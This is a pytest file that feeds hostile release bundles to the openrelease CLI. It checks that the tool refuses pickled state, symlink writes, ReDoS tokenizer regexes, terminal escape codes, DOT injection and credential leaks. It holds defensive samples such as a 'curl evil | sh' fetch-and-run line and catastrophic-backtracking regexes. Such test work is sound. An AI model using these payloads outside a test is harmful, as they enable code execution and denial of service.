"""Strangers' releases, round two: one test per class of defect, through the real CLI.

Classes: code execution on replay, writes outside the target, silent passes, hangs and quadratic
costs, internal errors, leaks and trust, durability, and the small ones (`verify | head`,
`verify hf:` offline). Every hostile case must end in exit 0, 1 or 2 with a one-line message and
no traceback, under a pytest timeout (a hang fails the test instead of stalling the suite).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from bundle_factory import write_manifest
from cli_checks import assert_clean_error, assert_no_crash, copy_bundle, hostile_pickle, invoke

from openrelease.cli.app import SafeConsole, clean
from openrelease.record.lineage import LineageNode, LineageReport, to_dot

pytestmark = pytest.mark.usefixtures("cwd_in_tmp")

SENTINEL = "pwned"


def _problems(bundle: Path) -> set[tuple[str, str]]:
    result = invoke("verify", str(bundle), "--json")
    assert result.exit_code in (0, 1), result.output
    assert_no_crash(result)
    return {(p["code"], p["path"]) for p in json.loads(result.stdout)["problems"]}


def _run(*args: str, timeout: float = 60, **kwargs: Any) -> subprocess.CompletedProcess[str]:
    """``openrelease ARGS`` in a real process."""
    cmd = [sys.executable, "-m", "openrelease", *args]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, **kwargs)


def _one_line(done: subprocess.CompletedProcess[str], code: int = 1) -> str:
    assert done.returncode == code, (done.stdout, done.stderr)
    assert "Traceback" not in done.stderr and "internal error" not in done.stderr, done.stderr
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), lines
    return lines[0]


# --------------------------------------------------------------------------- code execution


@pytest.mark.timeout(60)
def test_pickled_training_state_is_refused_and_runs_nothing(
    tmp_path: Path, pristine_bundle: Path
) -> None:
    bundle = copy_bundle(pristine_bundle, tmp_path)
    state = bundle / "states/pretrain/step-10"
    state.mkdir(parents=True)
    (state / "state.json").write_text(json.dumps({"step": 10}))
    (state / ".metadata").write_bytes(hostile_pickle(tmp_path / SENTINEL))
    (state / "rng_rank0.pt").write_bytes(hostile_pickle(tmp_path / SENTINEL))
    write_manifest(bundle)

    problems = _problems(bundle)
    assert ("state_file", "states/pretrain/step-10/.metadata") in problems
    assert ("pickle_file", "states/pretrain/step-10/rng_rank0.pt") in problems

    line = assert_clean_error(
        invoke("reproduce", str(bundle), "--stage", "pretrain"), match=r"pickle-free"
    )
    assert "nothing ran" in line
    assert not (tmp_path / SENTINEL).exists()


# --------------------------------------------------------------------------- writes outside


@pytest.mark.timeout(120)
def test_plot_never_writes_into_a_bundle_or_through_its_symlinks(
    tmp_path: Path, pristine_bundle: Path
) -> None:
    bundle = copy_bundle(pristine_bundle, tmp_path)
    logs = bundle / "logs/pretrain"
    logs.mkdir(parents=True)
    rows = [{"step": s, "loss": 5.0 - s / 10, "tokens_seen": 64 * s} for s in range(1, 6)]
    (logs / "metrics.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    plots = bundle / "evals/plots"
    plots.mkdir(parents=True)
    (plots / ".training_loss.png.part").symlink_to(victim)  # the old temp-file name
    (plots / "training_loss.svg").symlink_to(victim)

    refused = invoke("plot", str(bundle), "--out", str(plots))
    assert_clean_error(refused, match=r"--out .* is inside the bundle", code=1)
    done = invoke("plot", str(bundle))  # default: plots/ here, not the bundle's evals/plots
    assert done.exit_code == 0, done.output
    assert (tmp_path / "plots/training_loss.png").is_file()
    assert victim.read_text() == "keep me\n"

    (logs / "metrics.jsonl").unlink()
    (logs / "metrics.jsonl").symlink_to(victim)
    assert_clean_error(invoke("plot", str(bundle)), match=r"is a symlink out of")


# --------------------------------------------------------------------------- silent passes


@pytest.mark.timeout(60)
def test_swapped_final_model_is_named(tmp_path: Path, pristine_bundle: Path) -> None:
    bundle = copy_bundle(pristine_bundle, tmp_path)
    shutil.copyfile(
        bundle / "checkpoints/pretrain/step-10/model.safetensors",
        bundle / "model/model.safetensors",
    )
    write_manifest(bundle)  # resealed: every hash matches
    assert ("final_model", "model/model.safetensors") in _problems(bundle)


@pytest.mark.timeout(60)
def test_anything_else_under_signatures_fails_verify(tmp_path: Path, pristine_bundle: Path) -> None:
    bundle = copy_bundle(pristine_bundle, tmp_path)
    (bundle / "signatures/extra").mkdir(parents=True)
    (bundle / "signatures/payload.sh").write_text("curl evil | sh\n")
    (bundle / "signatures/extra/x.sig.json").write_text("{}")
    problems = _problems(bundle)
    assert ("signature_folder", "signatures/payload.sh") in problems
    assert ("signature_folder", "signatures/extra/x.sig.json") in problems


@pytest.mark.timeout(60)
def test_duplicate_json_keys_are_refused(tmp_path: Path, pristine_bundle: Path) -> None:
    bundle = copy_bundle(pristine_bundle, tmp_path)
    manifest = bundle / "MANIFEST.json"
    text = manifest.read_text()
    manifest.write_text(text.replace('"files": [', '"files": [], "files": [', 1))
    assert_clean_error(invoke("verify", str(bundle)), match=r"duplicate key 'files'")


# --------------------------------------------------------------------------- hangs


@pytest.mark.timeout(60)
def test_fifos_never_block(tmp_path: Path, pristine_bundle: Path) -> None:
    fifo = tmp_path / "params.yaml"
    os.mkfifo(fifo)
    assert_clean_error(invoke("params", "show"), match=r"is not a regular file")
    bundle = copy_bundle(pristine_bundle, tmp_path)
    (bundle / "logs/pretrain").mkdir(parents=True)
    os.mkfifo(bundle / "logs/pretrain/metrics.jsonl")
    assert_clean_error(invoke("plot", str(bundle)), match=r"is not a regular file")
    record = tmp_path / "artifacts/pretrain/record.json"
    record.parent.mkdir(parents=True)
    os.mkfifo(record)
    assert_clean_error(invoke("lineage", "pretrain", "--json"), match=r"is not a regular file")


@pytest.mark.timeout(60)
def test_a_long_token_renders_in_linear_time(tmp_path: Path) -> None:
    token = "a" * 200_000 + "0x1f" * 50_000 + "/" * 100_000  # highlighter bait, no spaces
    with (tmp_path / "out.txt").open("w") as f:
        console = SafeConsole(file=f, soft_wrap=True)  # its defaults: no markup, no highlighting
        console.print(f"  error: [x] {token}: [/bold] \x1b[2J")
    written = (tmp_path / "out.txt").read_text()
    assert "\x1b" not in written and "[/bold]" in written and token in written


def _regex_tokenizer(bundle: Path, pattern: str, probe_text: str) -> None:
    tok = json.loads((bundle / "model/tokenizer.json").read_text())
    tok["pre_tokenizer"] = {
        "type": "Split",
        "pattern": {"Regex": pattern},
        "behavior": "Isolated",
        "invert": False,
    }
    (bundle / "model/tokenizer.json").write_text(json.dumps(tok))
    probe = json.loads((bundle / "model/tokenizer_probe.json").read_text())
    (bundle / "model/tokenizer_probe.json").write_text(json.dumps({**probe, "text": probe_text}))
    write_manifest(bundle)


def _tokenizer_problem(bundle: Path) -> str:
    result = invoke("verify", str(bundle), "--json")
    assert result.exit_code == 1, result.output
    assert_no_crash(result)
    found = [p for p in json.loads(result.stdout)["problems"] if p["code"] == "tokenizer"]
    assert len(found) == 1, found
    return str(found[0]["message"])


@pytest.mark.timeout(60)
def test_a_slow_tokenizer_regex_is_cut_off(
    tmp_path: Path, pristine_bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("openrelease.verify.tokenizer_probe.TIMEOUT_S", 2.0)
    bundle = copy_bundle(pristine_bundle, tmp_path)
    # Exponential backtracking in every word, each under Onig's retry limit: about 0.3 s a word
    _regex_tokenizer(bundle, r"(\w|\w\w)*\d", ("a" * 27 + " ") * 60)
    started = time.monotonic()
    assert "took over 2 s" in _tokenizer_problem(bundle)
    assert time.monotonic() - started < 30


@pytest.mark.timeout(60)
def test_a_tokenizers_panic_is_a_problem_not_a_crash(tmp_path: Path, pristine_bundle: Path) -> None:
    bundle = copy_bundle(pristine_bundle, tmp_path)
    _regex_tokenizer(bundle, "(a|aa)+$", "a" * 60 + "!")  # Onig's retry limit: a Rust panic
    assert "PanicException" in _tokenizer_problem(bundle)


# --------------------------------------------------------------------------- internal errors


@pytest.mark.timeout(60)
def test_odd_input_gives_one_line_not_an_internal_error(
    tmp_path: Path, pristine_bundle: Path
) -> None:
    assert_clean_error(invoke("verify", "[/red]release[bold"), match=r"\[/red\]release\[bold")
    (tmp_path / "params.yaml").write_text("? [a, b]\n: 1\n")
    assert_clean_error(invoke("params", "show"), match=r"a mapping key must be a plain scalar")
    record = tmp_path / "artifacts/pretrain/record.json"
    record.parent.mkdir(parents=True)
    record.write_text('{"stage": "pretrain", ')
    assert_clean_error(invoke("lineage", "pretrain"), match=r"is not valid JSON")
    (tmp_path / "keys.pub").mkdir()
    assert_clean_error(
        invoke("verify", str(pristine_bundle), "--trusted-key", str(tmp_path / "keys.pub")),
        match=r"keys\.pub",
    )


# --------------------------------------------------------------------------- leaks and trust


@pytest.mark.timeout(60)
def test_control_characters_in_names_never_reach_the_terminal(
    tmp_path: Path, pristine_bundle: Path
) -> None:
    bundle = copy_bundle(pristine_bundle, tmp_path)
    (bundle / "docs/\x1b[2J\x1b]0;owned\x07.md").write_text("x")
    result = invoke("verify", str(bundle))
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\\x1b[2J" in result.stdout
    assert clean("a\u202eb\x9bc") == "a\\u202eb\\x9bc"


@pytest.mark.timeout(60)
def test_credentials_and_mistyped_paths_stay_private(tmp_path: Path) -> None:
    done = _run("verify", "hf:org/name", "--endpoint", "http://alice:s3cr3t-pw@127.0.0.1:9")
    line = _one_line(done)
    assert "s3cr3t-pw" not in done.stdout + done.stderr and "no answer" in line
    assert "Retrying" not in done.stderr  # one attempt, not five with back-off
    line = assert_clean_error(
        invoke("audit", "./relase", "--endpoint", "http://127.0.0.1:9"), match=r"does not exist"
    )
    assert "not looked up on the Hub" in line


@pytest.mark.timeout(60)
def test_keygen_never_overwrites_a_key(tmp_path: Path) -> None:
    pub = tmp_path / "release.pem.pub"
    pub.write_text("the published key\n")
    assert_clean_error(invoke("keygen", str(tmp_path / "release.pem")), match=r"\.pub exists")
    assert pub.read_text() == "the published key\n"
    assert not (tmp_path / "release.pem").exists()


def test_dot_output_escapes_record_strings() -> None:
    evil = 'x"]; evil [URL="http://e" label="'
    report = LineageReport(
        target="t",
        nodes=(LineageNode(kind="stage", name=evil, digest='sha256:"q', details={}, parent=None),),
    )
    dot = to_dot(report)
    assert '\\"]; evil [URL=\\"http://e\\"' in dot
    assert dot.count('"') - dot.count('\\"') == 4  # only the two strings' own quotes


# --------------------------------------------------------------------------- durability


_KILL_AFTER_FIRST_RENAME = """
import os, sys
from pathlib import Path
from openrelease.release import files
real = os.replace
def replace_then_die(a, b):
    real(a, b)
    os.kill(os.getpid(), 9)
os.replace = replace_then_die
files.swap_in(Path(sys.argv[1]), Path(sys.argv[2]))
"""


@pytest.mark.timeout(60)
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="renameat2 is Linux's")
def test_kill_9_during_swap_in_leaves_a_bundle_at_out(tmp_path: Path) -> None:
    """A rename-aside-then-rename-in swap dies between its renames; the exchange cannot."""
    from openrelease.release.files import exchange

    out, new = tmp_path / "release", tmp_path / ".release.tmp-1"
    for folder, name in ((out, "old"), (new, "new")):
        folder.mkdir()
        (folder / "MANIFEST.json").write_text(name)
    if not exchange(new, out):
        pytest.skip("this filesystem has no RENAME_EXCHANGE")
    assert (out / "MANIFEST.json").read_text() == "new"
    exchange(new, out)  # back as they were
    cmd = [sys.executable, "-c", _KILL_AFTER_FIRST_RENAME, str(new), str(out)]
    done = subprocess.run(cmd, check=False, timeout=60)
    assert done.returncode in (0, -9)
    assert (out / "MANIFEST.json").read_text() == "new"  # one step: never absent
    assert not new.exists()  # the old bundle, exchanged there, was removed


@pytest.mark.timeout(180)
def test_failed_data_stage_leaves_no_artifacts_folder(tmp_path: Path) -> None:
    params = (Path(__file__).parents[1] / "assets/params_test.yaml").read_text()
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text('{"prompt": "2+2?", "response": "4"}\n{"prompt": "no response"}\n')
    params = params.replace(
        "data:\n", "data:\n  imports:\n    - {format: jsonl, path: corpus.jsonl, role: sft}\n", 1
    )
    (tmp_path / "params.yaml").write_text(params)
    result = invoke("data")
    assert result.exit_code == 1, result.output
    assert_no_crash(result)
    assert not (tmp_path / "artifacts").exists()


# --------------------------------------------------------------------------- small


@pytest.mark.timeout(60)
def test_verify_into_a_closed_pipe_exits_0(pristine_bundle: Path) -> None:
    cmd = [sys.executable, "-m", "openrelease", "verify", str(pristine_bundle), "--json"]
    reader, writer = os.pipe()
    os.close(reader)  # `| head` that has already gone
    try:
        done = subprocess.run(cmd, stdout=writer, stderr=subprocess.PIPE, text=True, timeout=60)
    finally:
        os.close(writer)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "BrokenPipe" not in done.stderr, done.stderr
